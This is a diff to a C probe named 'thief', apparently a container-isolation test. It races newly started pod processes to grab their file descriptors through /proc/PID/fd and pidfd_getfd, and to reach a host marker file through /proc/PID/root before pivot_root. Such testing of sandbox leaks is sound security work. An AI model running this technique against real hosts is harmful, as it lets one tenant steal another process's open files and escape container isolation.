@@ -4,7 +4,8 @@
  *   thief SECONDS MARKER
  *       For SECONDS, watch /proc/sys/kernel/ns_last_pid. Each new pid is a
  *       process upod starts in the pod; until it is gone (or for 3 s), keep
- *       trying to take its fds 3 to 260 with pidfd_getfd, and to reach the
+ *       trying to take its fds 3 to 260 (open /proc/PID/fd/N, pidfd_getfd),
+ *       and to reach the
  *       host file MARKER through its /proc/PID/root: a process being set up
  *       stands on the host's filesystem until its pivot_root. Prints
  *       "stolen PID FD TARGET" for each fd obtained, "reached PID MARKER"
@@ -91,6 +92,25 @@ static void rob(victim_t *v, const char *marker)
     if (stat(path, &st) == 0) {
         printf("reached %ld %s\n", v->pid, marker);
         reached++;
+        took = true;
+    }
+    /* Its fds through /proc (the same ptrace check as pidfd_getfd, which
+     * the seccomp filter refuses besides). */
+    for (int fd = 3; fd <= 260; fd++) {
+        snprintf(path, sizeof(path), "/proc/%ld/fd/%d", v->pid, fd);
+        int got = open(path, O_PATH | O_CLOEXEC);
+        if (got < 0) {
+            if (errno == EACCES || errno == EPERM || errno == ENOENT)
+                break;
+            continue;
+        }
+        char self[64];
+        snprintf(self, sizeof(self), "/proc/self/fd/%d", got);
+        ssize_t n = readlink(self, target, sizeof(target) - 1);
+        target[n < 0 ? 0 : n] = '\0';
+        printf("stolen %ld %d %s (through /proc)\n", v->pid, fd, target);
+        close(got);
+        stolen++;
         took = true;
     }
     for (int fd = 3; fd <= 260; fd++) {
